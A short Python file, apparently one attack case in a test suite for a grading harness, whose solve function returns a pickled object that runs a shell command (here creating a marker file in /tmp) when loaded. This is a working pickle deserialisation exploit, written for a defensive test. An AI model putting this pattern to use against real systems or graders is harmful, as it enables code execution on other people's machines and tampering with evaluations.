# attack 32: a pickle as bytes, for whoever would load it
# must: wrong
# ---
import os
import pickle


class Boom:
    def __reduce__(self):
        return os.system, ("touch /tmp/parelha-attack-was-here",)


def solve(values):
    return pickle.dumps(Boom())
